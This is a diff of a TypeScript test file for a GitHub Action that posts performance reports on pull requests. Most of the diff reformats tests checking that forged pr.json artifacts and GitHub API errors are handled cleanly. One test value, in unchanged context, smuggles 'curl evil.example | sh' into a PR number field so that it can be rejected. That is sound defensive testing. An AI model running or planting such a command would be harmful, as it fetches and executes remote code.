@@ -57,7 +57,9 @@ afterAll(async () => {
 
 const commentMode = (report: string, opts: { inputs?: Record<string, string>; event?: any; eventName?: string } = {}): Promise<ActionRun> =>
   runAction({
-    workspace: trusted, apiUrl: gh.url, eventName: opts.eventName ?? 'workflow_run',
+    workspace: trusted,
+    apiUrl: gh.url,
+    eventName: opts.eventName ?? 'workflow_run',
     event: opts.event ?? workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo }),
     inputs: { mode: 'comment', report, 'github-token': TOKEN, ...opts.inputs },
   });
@@ -143,12 +145,36 @@ describe('forged or malformed artifacts: one clear error, no comment', () => {
     ['pr.json number is not a number', (_, p) => void (p.number = '2; curl evil.example | sh'), /pr\.json is not a valid.*"number" is not a pull request number/],
     ['pr.json names a PR that does not exist', (_, p) => void (p.number = 999), /refusing to post this report: pull request Codertocat\/Hello-World#999 from pr\.json does not exist/],
     ['pr.json names another commit than the run built', (_, p) => void (p.headSha = 'a'.repeat(40)), /refusing to post this report: pr\.json names commit a{40}, but the run that uploaded it built/],
-    ['pr.json names another PR of the base repository', (_, p) => void (p.number = 3), /refusing to post this report: Codertocat\/Hello-World#3 comes from Codertocat\/Hello-World, but the run that uploaded the report built forker\/Hello-World/],
-    ['another PR with the same head commit, from another repository', (_, p) => void (p.number = 6), /refusing to post this report: Codertocat\/Hello-World#6 comes from mallory\/Hello-World, but the run that uploaded the report built forker\/Hello-World/],
-    ['the same, with pr.json\'s head repository edited to match it', (_, p) => void Object.assign(p, { number: 6, headRepo: 'mallory/Hello-World' }), /refusing to post this report: pr\.json names head repository mallory\/Hello-World, but the run that uploaded it built forker\/Hello-World/],
-    ['another PR with the same head commit, from another branch of the fork', (_, p) => void (p.number = 5), /refusing to post this report: Codertocat\/Hello-World#5 is branch patch-2, but the run that uploaded the report built branch patch-1/],
-    ['a PR number GitHub does not link to the run', (_, p) => void Object.assign(p, { number: 3, event: workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, pullRequests: [2] }) }), /refusing to post this report: pr\.json names #3, but GitHub links the run that uploaded it to #2/],
-    ['an event from a push, not a pull request', (_, p) => void (p.event = workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, event: 'push' })), /refusing to post this report: the run that uploaded it was triggered by push, not by a pull request/],
+    [
+      'pr.json names another PR of the base repository',
+      (_, p) => void (p.number = 3),
+      /refusing to post this report: Codertocat\/Hello-World#3 comes from Codertocat\/Hello-World, but the run that uploaded the report built forker\/Hello-World/,
+    ],
+    [
+      'another PR with the same head commit, from another repository',
+      (_, p) => void (p.number = 6),
+      /refusing to post this report: Codertocat\/Hello-World#6 comes from mallory\/Hello-World, but the run that uploaded the report built forker\/Hello-World/,
+    ],
+    [
+      "the same, with pr.json's head repository edited to match it",
+      (_, p) => void Object.assign(p, { number: 6, headRepo: 'mallory/Hello-World' }),
+      /refusing to post this report: pr\.json names head repository mallory\/Hello-World, but the run that uploaded it built forker\/Hello-World/,
+    ],
+    [
+      'another PR with the same head commit, from another branch of the fork',
+      (_, p) => void (p.number = 5),
+      /refusing to post this report: Codertocat\/Hello-World#5 is branch patch-2, but the run that uploaded the report built branch patch-1/,
+    ],
+    [
+      'a PR number GitHub does not link to the run',
+      (_, p) => void Object.assign(p, { number: 3, event: workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, pullRequests: [2] }) }),
+      /refusing to post this report: pr\.json names #3, but GitHub links the run that uploaded it to #2/,
+    ],
+    [
+      'an event from a push, not a pull request',
+      (_, p) => void (p.event = workflowRunEvent({ headSha: fork.headSha, headRepo: fork.headRepo, event: 'push' })),
+      /refusing to post this report: the run that uploaded it was triggered by push, not by a pull request/,
+    ],
     ['not a workflow_run event at all', (_, p) => void (p.eventName = 'pull_request'), /mode: comment runs only on a workflow_run event \(this is pull_request\)/],
     ['another gate name', (_, p) => void (p.name = 'other-gate'), /the report is from gate "other-gate" but this step posts gate "rabbitmq-perf-gate"/],
     ['pr.json missing', (_, p) => void (p.missing = true), /pr\.json is not a valid rabbitmq-perf-gate PR file: missing/],
@@ -231,12 +257,19 @@ describe('GitHub API errors: a clear warning, the verdict unchanged', () => {
   const verdictOf = () => JSON.parse(readFileSync(join(forkReportDir, 'report.json'), 'utf8')).verdict;
 
   it('403 on the comment update', async () => {
-    gh.fail({ method: 'PATCH', path: /\/issues\/comments\/\d+$/, status: 403, body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest', status: '403' } });
+    gh.fail({
+      method: 'PATCH',
+      path: /\/issues\/comments\/\d+$/,
+      status: 403,
+      body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest', status: '403' },
+    });
     const before = ours().body;
     const r = await commentMode(join(forkReportDir, 'report.json'));
     expect(r.code, r.stdout).toBe(0);
     expect(r.outputs.verdict).toBe(verdictOf());
-    expect(r.stdout).toMatch(/::warning title=rabbitmq-perf-gate comment::.*could not comment on pull request #2: GitHub answered 403 \(Resource not accessible by integration\).*Fix: give the job `permissions: pull-requests: write`/);
+    expect(r.stdout).toMatch(
+      /::warning title=rabbitmq-perf-gate comment::.*could not comment on pull request #2: GitHub answered 403 \(Resource not accessible by integration\).*Fix: give the job `permissions: pull-requests: write`/,
+    );
     expect(ours().body).toBe(before);
     noStack(r.stdout + r.stderr);
   });
